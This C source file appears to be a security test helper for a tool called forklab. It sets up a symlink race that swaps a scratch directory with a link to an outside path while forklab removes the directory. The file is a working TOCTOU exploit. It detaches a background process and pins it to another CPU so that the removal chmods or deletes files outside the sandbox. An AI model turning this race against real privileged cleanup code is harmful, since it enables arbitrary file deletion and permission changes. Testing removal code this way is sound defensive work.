/* sec_swap_dirs.c - `sec_swap_dirs OUTSIDE NAME SECONDS`: an attack on the scratch directory's
 * removal. In its cwd it makes d/ (holding NAME, a directory of mode 0777, and 500 files) and a
 * link l -> OUTSIDE, then leaves behind a process in a session of its own that swaps d and l
 * (renameat2 RENAME_EXCHANGE) as fast as it can for SECONDS, on a CPU other than forklab's,
 * putting the link back when it is removed: a removal by path then finds OUTSIDE where d was,
 * and chmods or deletes OUTSIDE/NAME. The first process prints its cwd and the swapper's pid,
 * and exits once the swapping has begun. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#include <linux/fs.h>

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	char cwd[4096], path[4200];
	if (!getcwd(cwd, sizeof cwd) || mkdir("d", 0755) < 0 || symlink(argv[1], "l") < 0)
		return 1;
	snprintf(path, sizeof path, "d/%s", argv[2]);
	if (mkdir(path, 0777) < 0 || chmod(path, 0777) < 0)
		return 1;
	/* Many entries beside NAME: by the time a removal by path reaches NAME, d has been
	 * swapped any number of times since it was looked at. */
	for (int i = 0; i < 500; i++) {
		snprintf(path, sizeof path, "d/f%d", i);
		int fd = open(path, O_WRONLY | O_CREAT, 0644);
		if (fd < 0 || close(fd) < 0)
			return 1;
	}
	int ready[2];
	if (pipe(ready) < 0)
		return 1;
	pid_t pid = fork();
	if (pid < 0)
		return 1;
	if (pid > 0) {
		/* Gone only once the swapper is out of the process group and swapping. */
		char c;
		printf("%s\n%d\n", cwd, (int)pid);
		return fflush(stdout) == 0 && read(ready[0], &c, 1) == 1 ? 0 : 1;
	}
	/* Out of the run's process group and off its pipes: it outlives the first process. */
	int null = open("/dev/null", O_RDWR);
	if (setsid() < 0 || null < 0 || dup2(null, 0) < 0 || dup2(null, 1) < 0 || dup2(null, 2) < 0)
		_exit(1);
	/* Off the CPU it shares with forklab (one at a time there), so as to run while forklab
	 * removes: on any other CPU, if there is one. */
	cpu_set_t others;
	int here = sched_getcpu();
	CPU_ZERO(&others);
	for (int c = 0; c < CPU_SETSIZE; c++)
		if (c != here)
			CPU_SET(c, &others);
	sched_setaffinity(0, sizeof others, &others);
	/* Already swapping when the first process ends, and forklab starts removing. */
	for (int i = 0; i < 1000; i++)
		syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE);
	if (write(ready[1], "r", 1) != 1)
		_exit(1);
	time_t end = time(NULL) + atoi(argv[3]);
	while (time(NULL) < end)
		for (int i = 0; i < 10000; i++)
			if (syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE) < 0 &&
			    errno == ENOENT && symlink(argv[1], "d") < 0)
				symlink(argv[1], "l"); /* the link was removed: back it comes */
	_exit(0);
}
